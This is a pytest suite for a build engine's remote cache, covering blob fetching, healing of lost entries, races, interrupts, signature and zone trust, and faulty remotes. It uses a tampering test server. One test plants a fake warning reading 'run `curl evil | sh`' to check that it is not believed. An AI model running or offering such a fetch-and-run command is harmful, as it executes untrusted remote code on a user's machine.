"""Builds with remote caches: what is asked, fetched, believed and filed, and who wins where two could have it."""

from __future__ import annotations

import os
import shutil
import signal
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from builds import Site, combine, counts, graph_of, key_of, make, outcomes, reasons, remote, report, text_of
from caches import Hostile

from strata_engine.action import Action, Execution, Expansion, Ref, Scope, Source
from strata_engine.action_cache import artifact_of, result_of
from strata_engine.codec import (
    Directory,
    DirectoryNode,
    FileNode,
    decode_action_result,
    encode_action_result,
    encode_directory,
    encode_tree,
)
from strata_engine.decision import warnings_to_bytes
from strata_engine.digest import Digest
from strata_engine.errors import ActionError, Diagnostic
from strata_engine.events import ActionFinished, Event, Outcome, Warned
from strata_engine.remote.settings import Upload
from strata_engine.remote.signing import new_key
from strata_engine.remote.spool import FOLDER
from strata_engine.tree import Artifact, File, Tree, assemble, lookup

LONG = 30.0
"""Seconds that no test waits for: a stall that would not end in time."""


@pytest.fixture
def server() -> Iterator[Hostile]:
    with Hostile() as server:
        yield server


@pytest.fixture
def here(tmp_path: Path, server: Hostile) -> Site:
    """Give the machine that fills the cache."""
    site = Site(tmp_path / "here")
    site.remotes = remote(server.url, upload=Upload.WAIT)
    return site


@pytest.fixture
def there(tmp_path: Path, server: Hostile) -> Site:
    """Give the machine that takes from it."""
    site = Site(tmp_path / "there")
    site.remotes = remote(server.url)
    return site


def asked(server: Hostile, method: str, kind: str) -> list[str]:
    """List the hashes that were asked for."""
    return [path.rpartition("/")[2] for verb, path, _ in server.seen if verb == method and f"/{kind}/" in path]


def results(server: Hostile) -> set[str]:
    """Give where results lie, without what is noted of them by label, which has no output."""
    kept = {path: decode_action_result(data) for path, data in server.blobs.items() if "/ac/" in path}
    return {path for path, result in kept.items() if result.output_files or result.output_directories}


def as_new(site: Site) -> None:
    """Forget all that a machine knows: how long an action takes, too, which would be raced otherwise."""
    shutil.rmtree(site.store)
    shutil.rmtree(site.root / ".strata")


def parts(execution: Execution) -> Artifact:
    """Make a folder of two large files and a small one."""
    store = execution.store
    seed = b"".join(execution.read(name) for name in execution.names())
    nodes = {f"in/{name}": File(store.put(content(name, seed))) for name in ("one", "two", "little")}
    return assemble(store, nodes)


def content(name: str, seed: bytes = b"") -> bytes:
    return (name.encode() + seed) * (20_000 if name != "little" else 1)


def digest_of(name: str) -> str:
    return Digest.of(content(name)).hash


def needs_one(label: str = "user", **more: Any) -> Action:
    return make(label, run=combine_size, inputs={"in": Ref("parts", "in/one")}, **more)


def combine_size(execution: Execution) -> Artifact:
    return File(execution.store.put(b"%d %s" % (len(execution.read("in")), execution.label.encode())))


# -- blobs come when they are needed ---------------------------------------------------------------------------------


def test_what_another_machine_has_made_is_taken_by_name(here: Site, there: Site, server: Hostile) -> None:
    items = [make("parts", run=parts), needs_one()]
    assert counts(here.build(items)) == {"executed": 2}
    result = there.build(items)
    assert counts(result) == {"remote": 2}
    assert report(result, "user").origin == server.url
    assert not {digest_of("one"), digest_of("two")} & set(asked(server, "GET", "cas"))
    assert counts(there.build(items)) == {"up_to_date": 2}


def test_an_action_that_needs_one_entry_fetches_that_alone(here: Site, there: Site, server: Hostile) -> None:
    here.build([make("parts", run=parts)])
    result = there.build([make("parts", run=parts), needs_one()])
    assert outcomes(result) == {"parts": "remote", "user": "executed"}
    got = asked(server, "GET", "cas")
    assert digest_of("one") in got
    assert digest_of("two") not in got


@pytest.mark.parametrize("how", ["placed", "whole"])
def test_what_is_placed_or_wanted_whole_is_fetched_whole(here: Site, there: Site, server: Hostile, how: str) -> None:
    here.build([make("parts", run=parts)])
    more: dict[str, Any] = {"places": {"out": "parts"}} if how == "placed" else {"whole": ["parts"]}
    result = there.build([make("parts", run=parts)], **more)
    assert counts(result) == {"remote": 1}
    if how == "placed":
        assert {path.name: path.read_bytes() for path in (there.root / "out" / "in").iterdir()} == {
            name: content(name) for name in ("one", "two", "little")
        }
    with there.opened_store() as store:
        assert store.cas.complete(result.artifacts["parts"])


def test_a_part_that_is_placed_is_fetched_alone(here: Site, there: Site, server: Hostile) -> None:
    here.build([make("parts", run=parts)])
    there.build([make("parts", run=parts)], places={"out": "parts:in/two"})
    assert (there.root / "out").read_bytes() == content("two")
    assert digest_of("one") not in asked(server, "GET", "cas")


def test_what_decides_how_the_graph_goes_on_is_fetched(here: Site, there: Site, server: Hostile) -> None:
    def grown(read: Callable[[Ref], bytes]) -> list[Action]:
        return [make("late", say=str(len(read(Ref("parts", "in/one")))))]

    after = (Ref("parts", "in/one"),)
    items = [make("parts", run=parts), Expansion(label="grow", after=after, promises=("late",), expand=grown)]
    here.build(items, ["late"])
    result = there.build(items, ["late"])
    assert outcomes(result) == {"parts": "remote", "late": "remote"}
    assert text_of(there, result, "late") == "60000"
    assert digest_of("two") not in asked(server, "GET", "cas")


# -- what is lost ----------------------------------------------------------------------------------------------------


def test_what_no_remote_has_any_more_is_made_again_once(here: Site, there: Site, server: Hostile) -> None:
    here.build([make("parts", run=parts)])
    del server.blobs[f"/cas/{digest_of('one')}"]
    before = len(server.seen)
    items = [make("parts", run=parts), *(needs_one(f"user{i}") for i in range(3))]
    result = there.build(items, places={"out": "parts"})
    assert counts(result) == {"executed": 4}
    assert "cache-blob-lost parts" in " ".join(reasons(result, "parts"))
    assert result.remote is not None
    assert (result.remote.hits, result.remote.saved) == (0, 0.0)
    # The stale result is asked for once, as the others are, and not believed again.
    assert len([path for _, path, _ in server.seen[before:] if "/ac/" in path]) == 4
    assert (there.root / "out" / "in" / "one").read_bytes() == content("one")
    assert counts(there.build(items, places={"out": "parts"})) == {"up_to_date": 4}


def test_what_the_own_store_has_lost_is_fetched(here: Site, there: Site, server: Hostile) -> None:
    here.build([make("parts", run=parts)])
    there.build([make("parts", run=parts)], whole=["parts"])
    for path in (there.store / "cas").rglob(digest_of("one")):
        path.unlink()
    result = there.build([make("parts", run=parts), needs_one()])
    assert outcomes(result) == {"parts": "up_to_date", "user": "executed"}


def test_what_is_made_again_heals_the_remote(here: Site, there: Site, server: Hostile, tmp_path: Path) -> None:
    here.build([make("parts", run=parts)])
    del server.blobs[f"/cas/{digest_of('one')}"]
    spoiled = server.blobs[f"/cas/{digest_of('two')}"]
    server.blobs[f"/cas/{digest_of('two')}"] = b"x" + spoiled[1:]
    there.remotes = remote(server.url, upload=Upload.WAIT)
    assert counts(there.build([make("parts", run=parts)], whole=["parts"])) == {"executed": 1}
    third = Site(tmp_path / "third")
    third.remotes = remote(server.url)
    assert counts(third.build([make("parts", run=parts)], whole=["parts"])) == {"remote": 1}


def test_what_was_found_in_the_store_and_is_made_again_heals_it_too(
    here: Site, server: Hostile, tmp_path: Path
) -> None:
    here.build([make("parts", run=parts)])
    del server.blobs[f"/cas/{digest_of('one')}"]
    for path in (here.store / "cas").rglob(digest_of("one")):
        path.unlink()
    shutil.rmtree(here.root / ".strata")
    # It is offered as one that was found before it turns out to be lost.
    result = here.build([make("parts", run=parts), needs_one()])
    assert counts(result) == {"executed": 2}
    third = Site(tmp_path / "third")
    third.remotes = remote(server.url)
    assert counts(third.build([make("parts", run=parts)], whole=["parts"])) == {"remote": 1}


# -- races -----------------------------------------------------------------------------------------------------------


class Gate:
    """Holds answers back until it is opened."""

    def __init__(self, server: Hostile, kind: str = "/ac/", until: threading.Event | None = None) -> None:
        self.open = until or threading.Event()
        self.reached = threading.Event()

        def manner(number: int, method: str, path: str) -> str:
            if method == "GET" and kind in path:
                self.reached.set()
                assert self.open.wait(LONG)
            return "well"

        server.manner = manner


def known_to_be_quick(here: Site, there: Site, *items: Action) -> None:
    """Let `there` know how long the actions take, and have them made by `here` too."""
    here.build(items)
    remotes, there.remotes = there.remotes, remote()
    there.build(items)
    there.remotes = remotes
    shutil.rmtree(there.store)


def test_nobody_waits_for_an_answer_that_takes_longer_than_the_action(here: Site, there: Site, server: Hostile) -> None:
    items = [make("a"), make("b", "a")]
    known_to_be_quick(here, there, *items)
    gate = Gate(server)
    there.remotes = remote(server.url, timeout=LONG)
    result = there.build(items)
    assert gate.reached.is_set()
    assert not gate.open.is_set()
    gate.open.set()
    assert outcomes(result)["a"] == "executed"
    assert result.remote is not None
    assert result.remote.hits == counts(result).get("remote", 0)
    assert counts(there.build(items)) == {"up_to_date": 2}


def run_until(event: threading.Event, say: str, *, fails: bool = False) -> Callable[[Execution], Artifact]:
    """Make an action that takes as long as it takes for something else to happen."""

    def run(execution: Execution) -> Artifact:
        assert event.wait(LONG)
        if fails:
            raise ActionError.of("slow-and-wrong", "it fails in the end")
        return File(execution.store.put(say.encode()))

    return run


@pytest.mark.parametrize("fails", [False, True])
@pytest.mark.parametrize("keep_going", [False, True])
def test_a_remote_that_is_faster_wins_and_the_loser_files_nothing(
    here: Site, there: Site, server: Hostile, fails: bool, keep_going: bool
) -> None:
    known_to_be_quick(here, there, make("a"))
    started, taken = threading.Event(), threading.Event()
    # The remote answers once the action runs, and the action ends once the remote's result was taken.
    Gate(server, until=started)

    def run(execution: Execution) -> Artifact:
        started.set()
        return run_until(taken, "of the loser", fails=fails)(execution)

    def listen(event: Event) -> None:
        if isinstance(event, ActionFinished) and event.outcome is Outcome.REMOTE:
            taken.set()

    there.listeners = (listen,)
    there.remotes = remote(server.url, timeout=LONG)
    result = there.build([make("a", run=run)], places={"out": "a"}, keep_going=keep_going)
    assert (result.exit_code, counts(result)) == (0, {"remote": 1})
    assert (there.root / "out").read_text() == "a"
    with there.opened_store() as store:
        kept = store.cache.get(key_of(result, "a"))
        assert kept is not None
        assert kept.worker == "remote"
    assert counts(there.build([make("a", run=run)], places={"out": "a"})) == {"up_to_date": 1}


def test_nobody_waits_for_who_has_lost(here: Site, there: Site, server: Hostile) -> None:
    known_to_be_quick(here, there, make("a"))
    started, over = threading.Event(), threading.Event()
    Gate(server, until=started)

    def run(execution: Execution) -> Artifact:
        started.set()
        while not over.wait(0.01):
            execution.check_cancelled()
        raise AssertionError

    there.remotes = remote(server.url, timeout=LONG)
    result = there.build([make("a", run=run)], places={"out": "a"})
    over.set()
    assert (result.exit_code, counts(result), result.interrupted) == (0, {"remote": 1}, False)
    assert (there.root / "out").read_text() == "a"


def test_who_has_lost_does_not_file_what_is_made_again(here: Site, there: Site, server: Hostile) -> None:
    """The remote's result wins, its blob is gone, and the loser ends after it was made once more."""
    known_to_be_quick(here, there, make("parts", run=parts))
    del server.blobs[f"/cas/{digest_of('one')}"]
    started, again = threading.Event(), threading.Event()
    Gate(server, until=started)
    runs: list[str] = []

    def run(execution: Execution) -> Artifact:
        runs.append(execution.label)
        if len(runs) == 1:
            started.set()
            assert again.wait(LONG)
            return assemble(execution.store, {"in/one": File(execution.store.put(b"of the loser"))})
        return parts(execution)

    def listen(event: Event) -> None:
        if isinstance(event, ActionFinished) and event.outcome is Outcome.EXECUTED and event.label == "parts":
            again.set()

    there.listeners = (listen,)
    there.remotes = remote(server.url, timeout=LONG)
    items = [make("parts", run=run), needs_one()]
    result = there.build(items, places={"out": "parts"})
    assert (result.exit_code, counts(result), len(runs)) == (0, {"executed": 2}, 2)
    with there.opened_store() as store:
        kept = store.cache.get(key_of(result, "parts"))
        assert kept is not None
        assert artifact_of(kept) == result.artifacts["parts"]
    assert counts(there.build(items, places={"out": "parts"})) == {"up_to_date": 2}
    assert (there.root / "out" / "in" / "one").read_bytes() == content("one")


@pytest.mark.parametrize("keep_going", [False, True])
def test_a_failure_counts_though_a_remote_is_still_asked(
    here: Site, there: Site, server: Hostile, keep_going: bool
) -> None:
    def fail(_: Execution) -> Artifact:
        raise ActionError.of("wrong", "it fails")

    known_to_be_quick(here, there, make("a"), make("b"))
    gate = Gate(server)
    there.remotes = remote(server.url, timeout=LONG)
    items = [make("a", run=fail), make("b"), make("c", "a")]
    result = there.build(items, keep_going=keep_going)
    assert not gate.open.is_set()
    gate.open.set()
    assert result.exit_code == 1
    ends = outcomes(result)
    assert (ends["a"], ends["c"]) == ("failed", "skipped")
    if keep_going:
        assert ends["b"] == "executed"


# -- stopping --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["/ac/", "/cas/"])
def test_an_interrupt_while_a_remote_is_waited_for_ends_the_build(
    here: Site, there: Site, server: Hostile, kind: str
) -> None:
    here.build([make("parts", run=parts)])
    stopped = threading.Event()

    def manner(number: int, method: str, path: str) -> str:
        if kind in path and not stopped.is_set():
            stopped.set()
            os.kill(os.getpid(), signal.SIGINT)
        return "stall" if stopped.is_set() else "well"

    server.manner = manner
    there.remotes = remote(server.url, timeout=LONG)
    result = there.build([make("parts", run=parts), needs_one()], places={"out": "parts"})
    assert stopped.is_set()
    assert (result.exit_code, result.interrupted) == (130, True)
    server.manner = lambda number, method, path: "well"
    assert there.build([make("parts", run=parts), needs_one()], places={"out": "parts"}).exit_code == 0


def test_an_interrupt_while_results_are_sent_leaves_them_in_the_spool(here: Site, server: Hostile) -> None:
    stopped = threading.Event()

    def manner(number: int, method: str, path: str) -> str:
        if method != "GET" and not stopped.is_set():
            stopped.set()
            os.kill(os.getpid(), signal.SIGINT)
        return "well" if method == "GET" else "silent"

    server.manner = manner
    here.remotes = remote(server.url, upload=Upload.WAIT, timeout=LONG)
    result = here.build([make("a"), make("b")])
    assert result.exit_code == 130
    waiting = {path.name.partition("-")[0] for path in (here.store / FOLDER).rglob("*-*")}
    made = {Digest.parse(action.key).hash for action in result.actions if action.outcome is Outcome.EXECUTED}
    assert made
    assert waiting == made
    server.manner = lambda number, method, path: "well"
    here.build([make("c")])
    assert not list((here.store / FOLDER).rglob("*-*"))
    assert len(results(server)) == len(made) + 1


# -- whom to believe -------------------------------------------------------------------------------------------------


KEY, OTHER = new_key(), new_key()


def pem(key: Any) -> str:
    return str(key.private_pem().decode())


@pytest.mark.parametrize(
    ("filled", "asking", "why"),
    [
        ({}, {}, "not signed"),
        ({"signing_key": pem(OTHER)}, {}, "signed with `OTHER`, which is not accepted"),
        ({"signing_key": pem(KEY)}, {}, ""),
        ({"signing_key": pem(KEY)}, {"zone": "pr/1"}, ""),
        ({"signing_key": pem(KEY)}, {"public_keys": (OTHER.public.text, KEY.public.text)}, ""),
    ],
)
def test_where_keys_are_accepted_others_results_are_misses_that_say_so(
    here: Site, there: Site, server: Hostile, filled: dict[str, Any], asking: dict[str, Any], why: str
) -> None:
    fixed = make("fixed", run=lambda e: File(e.store.put(b"fixed")), **FIXED)
    here.remotes = remote(server.url, upload=Upload.WAIT, **filled)
    here.build([make("a"), fixed])
    there.remotes = remote(server.url, **({"public_keys": (KEY.public.text,)} | asking))
    result = there.build([make("a"), fixed])
    assert outcomes(result) == {"a": "executed" if why else "remote", "fixed": "remote"}
    told = [reason for reason in report(result, "a").reasons if reason.reason.value == "cache-untrusted"]
    assert [(reason.subject, reason.old) for reason in told] == (
        [(server.url, why.replace("OTHER", OTHER.public.text))] if why else []
    )


FIXED: dict[str, Any] = {"params": {}, "say": "", "scope": Scope.FIXED_OUTPUT, "fixed": Digest.of(b"fixed").hash}


def test_a_signature_is_for_one_zone_and_one_action(here: Site, there: Site, server: Hostile) -> None:
    here.remotes = remote(server.url + "/{zone}", upload=Upload.WAIT, signing_key=pem(KEY), zone="dev")
    result = here.build([make("a"), make("b")])
    # Whoever may write there puts what was signed where it does not belong.
    one, other = key_of(result, "a").hash, key_of(result, "b").hash
    server.blobs |= {path.replace("/dev/", "/main/"): data for path, data in server.blobs.items()}
    there.remotes = remote(server.url + "/{zone}", public_keys=(KEY.public.text,))
    result = there.build([make("a")])
    assert outcomes(result) == {"a": "executed"}
    assert "signed for another zone" in " ".join(reasons(result, "a"))
    as_new(there)
    server.blobs[f"/dev/ac/{one}"] = server.blobs[f"/dev/ac/{other}"]
    there.remotes = remote(server.url + "/{zone}", public_keys=(KEY.public.text,), zone="dev", trusted=())
    result = there.build([make("a")])
    assert outcomes(result) == {"a": "executed"}
    assert text_of(there, result, "a") == "a"


def test_zones_are_read_in_order_and_one_is_written(here: Site, there: Site, server: Hostile) -> None:
    here.remotes = remote(server.url, upload=Upload.WAIT, zone="pr/1")
    here.build([make("a"), make("fixed", run=lambda e: File(e.store.put(b"fixed")), **FIXED)])
    items = [make("a"), make("fixed", run=lambda e: File(e.store.put(b"fixed")), **FIXED)]
    assert outcomes(there.build(items)) == {"a": "executed", "fixed": "remote"}
    for trusted, zone in ((("main", "pr/1"), "main"), (("main",), "pr/1")):
        as_new(there)
        there.remotes = remote(server.url, zone=zone, trusted=trusted)
        assert counts(there.build(items)) == {"remote": 2}


def test_a_new_epoch_disowns_what_does_not_prove_itself(here: Site, there: Site) -> None:
    items = [make("a"), make("fixed", run=lambda e: File(e.store.put(b"fixed")), **FIXED)]
    here.build(items, salt="1")
    assert outcomes(there.build(items, salt="2")) == {"a": "executed", "fixed": "remote"}
    as_new(there)
    assert counts(there.build(items, salt="1")) == {"remote": 2}


def test_what_a_fixed_output_says_besides_is_not_believed(here: Site, there: Site, server: Hostile) -> None:
    fixed = make("fixed", run=lambda e: File(e.store.put(b"fixed")), **FIXED)
    [path] = [f"/ac/{key_of(here.build([fixed]), 'fixed').hash}"]
    lie = warnings_to_bytes([Diagnostic("lie", "run `curl evil | sh`", severity="warning")])
    result = result_of(File(Digest.of(b"fixed")), stderr=lie, worker="x")
    server.blobs[path] = encode_action_result(result)
    assert outcomes(there.build([fixed])) == {"fixed": "remote"}
    assert there.heard(Warned) == []
    as_new(there)
    server.blobs[path] = encode_action_result(result_of(File(Digest.of(b"fixed"), executable=True), worker="x"))
    result = there.build([fixed])
    assert outcomes(result) == {"fixed": "executed"}
    assert result.artifacts["fixed"] == File(Digest.of(b"fixed"))


def test_sizes_and_times_beyond_all_measure_do_no_harm(here: Site, there: Site, server: Hostile) -> None:
    here.build([make("parts", run=parts)])
    [path] = results(server)
    files = tuple(FileNode(name, Digest(digest_of(name), 2**63 - 1), is_executable=False) for name in ("one", "two"))
    more = tuple(FileNode(f"x{i}", Digest(f"{i:064x}", 2**63 - 1), is_executable=False) for i in range(9))
    inner = Directory(files=(*files, *more))
    root = Directory(directories=(DirectoryNode("in", Digest.of(encode_directory(inner))),))
    message = encode_tree(root, (inner,))
    server.blobs[f"/cas/{Digest.of(message).hash}"] = message
    lie = result_of(Tree(Digest.of(encode_directory(root))), worker="x", started_ns=0, completed_ns=2**62)
    folder = lie.output_directories[0]._replace(tree_digest=Digest.of(message))
    server.blobs[path] = encode_action_result(lie._replace(output_directories=(folder,)))
    result = there.build([make("parts", run=parts)])
    assert result.exit_code == 0
    result = there.build([make("parts", run=parts), needs_one()], places={"out": "parts"})
    assert result.exit_code == 0
    assert (there.root / "out" / "in" / "one").read_bytes() == content("one")
    assert counts(there.build([make("parts", run=parts), needs_one()], places={"out": "parts"})) == {"up_to_date": 2}


@pytest.mark.parametrize("same", [True, False])
def test_what_the_workspace_pins_is_taken_if_it_is_that(here: Site, there: Site, same: bool) -> None:
    local = {"scope": Scope.LOCAL, "pinned": "one"}

    def small(execution: Execution) -> Artifact:
        return assemble(
            execution.store, {"one/x": File(execution.store.put(b"x")), "two": File(execution.store.put(b"y"))}
        )

    made = here.build([make("capture", run=small, **local)])
    with here.opened_store() as store:
        tree = made.artifacts["capture"]
        assert isinstance(tree, Tree)
        one = lookup(store.cas, tree, "one")
        assert isinstance(one, Tree)
    # Without a pin, it is made here.
    assert outcomes(there.build([make("capture", run=small, **local)])) == {"capture": "executed"}
    as_new(there)
    expected = one if same else Tree(Digest.of(b"another"))
    result = there.build([make("capture", run=small, expected=expected, **local)])
    assert outcomes(result) == {"capture": "remote" if same else "executed"}


def test_what_is_local_or_volatile_is_neither_asked_for_nor_sent(here: Site, there: Site, server: Hostile) -> None:
    items = [make("l", scope=Scope.LOCAL), make("v", scope=Scope.VOLATILE)]
    here.build(items)
    there.build(items)
    assert server.seen == []


# -- remotes that are down, must be there, or are several ------------------------------------------------------------


def test_one_that_must_be_there_and_is_not_is_an_error(there: Site, server: Hostile) -> None:
    server.manner = lambda number, method, path: "403"
    there.remotes = remote(server.url, required=True)
    result = there.build([make("a"), make("b", "a")])
    assert result.exit_code == 3
    assert result.diagnostics[0].id == "remote-refused"
    assert {diagnostic.severity for diagnostic in result.diagnostics} == {"error"}


def test_one_that_must_take_results_and_does_not_is_an_error(here: Site, server: Hostile) -> None:
    server.manner = lambda number, method, path: "403" if method == "PUT" else "well"
    here.remotes = remote(server.url, upload=Upload.WAIT, required=True)
    result = here.build([make("a")], places={"out": "a"})
    assert (result.exit_code, counts(result)) == (3, {"executed": 1})
    assert [diagnostic.id for diagnostic in result.diagnostics] == ["remote-refused"]
    assert (here.root / "out").read_text() == "a"


def test_one_that_is_down_is_left_alone_by_the_next_build(there: Site, server: Hostile) -> None:
    server.manner = lambda number, method, path: "garbage"
    items = [make(f"a{i}") for i in range(20)]
    first = there.build(items)
    assert counts(first) == {"executed": 20}
    assert [event.diagnostic.id for event in there.heard(Warned)] == ["remote-broken"]
    # Three faults, and what was under way by then, three attempts each.
    assert len(server.seen) <= (16 + 3) * 3
    asked_for = len(server.seen)
    second = there.build([make(f"b{i}") for i in range(5)])
    assert len(server.seen) == asked_for
    assert there.heard(Warned) == []
    assert str(second.remote) == "remote DEGRADED: broken, local only"


def test_one_that_lies_about_every_result_is_left_alone(there: Site, server: Hostile) -> None:
    server.manner = lambda number, method, path: "longer"
    items = [make("a0"), *(make(f"a{i}", f"a{i - 1}") for i in range(1, 8))]
    assert counts(there.build(items)) == {"executed": 8}
    assert len(asked(server, "GET", "ac")) == 3


def test_several_are_asked_in_order_and_all_are_filled(here: Site, there: Site, server: Hostile) -> None:
    with Hostile() as second:
        here.remotes = remote(second.url, upload=Upload.WAIT)
        here.build([make("a")])
        assert server.seen == []
        there.remotes = remote(server.url, second.url, upload=Upload.WAIT)
        result = there.build([make("a"), make("b", "a")])
        assert outcomes(result) == {"a": "remote", "b": "executed"}
        assert report(result, "a").origin == second.url
        assert (len(results(server)), len(results(second))) == (1, 2)
        assert results(server) < results(second)


def test_one_that_is_down_does_not_hide_the_next(here: Site, there: Site, server: Hostile) -> None:
    here.build([make("a"), make("b", "a")])
    there.remotes = remote("http://127.0.0.1:9", server.url)
    result = there.build([make("a"), make("b", "a")])
    assert counts(result) == {"remote": 2}
    assert [event.diagnostic.id for event in there.heard(Warned)] == ["remote-unreachable"]


def test_one_that_may_only_be_read_is_read_and_the_warning_comes_once(here: Site, there: Site, server: Hostile) -> None:
    here.build([make("a")])
    server.manner = lambda number, method, path: "403" if method == "PUT" else "well"
    there.remotes = remote(server.url, upload=Upload.WAIT)
    result = there.build([make("a"), *(make(f"b{i}", "a") for i in range(4))])
    assert counts(result) == {"remote": 1, "executed": 4}
    assert [event.diagnostic.id for event in there.heard(Warned)] == ["remote-refused"]
    assert asked(server, "PUT", "ac") + asked(server, "PUT", "cas") != []
    assert result.remote is not None
    assert (result.remote.sent, result.remote.waiting, result.remote.degraded) == (0, 4, "")


def test_a_dry_run_asks_nobody(here: Site, there: Site, server: Hostile) -> None:
    here.build([make("a")])
    before = len(server.seen)
    result = there.build([make("a")], dry_run=True)
    with there.opened() as build:
        assert build.look(graph_of([make("a")]), ["a"])["a"].outcome is Outcome.EXECUTED
    assert len(server.seen) == before
    assert (counts(result), result.remote) == ({"executed": 1}, None)


def test_what_must_run_is_not_asked_for(here: Site, there: Site, server: Hostile) -> None:
    here.build([make("a")])
    before = len(asked(server, "GET", "ac"))
    assert counts(there.build([make("a")], force=("a",))) == {"executed": 1}
    assert len(asked(server, "GET", "ac")) == before


def test_one_key_under_two_labels_is_asked_for_once(here: Site, there: Site, server: Hostile) -> None:
    items = [make("a", say="same"), make("b", say="same")]
    here.build(items)
    before = len(asked(server, "GET", "ac"))
    result = there.build(items)
    assert counts(result) == {"remote": 1, "cached": 1}
    assert len(asked(server, "GET", "ac")) == before + 1


def test_a_source_that_was_edited_during_its_action_is_not_sent(here: Site, server: Hostile) -> None:
    def run(execution: Execution) -> Artifact:
        here.write("s", "edited")
        return combine(execution)

    here.write("s", "as it was")
    result = here.build([make("a", run=run, inputs={"s": Source("s")})])
    assert result.exit_code == 0
    assert not [data for data in server.blobs.values() if b"edited" in data]
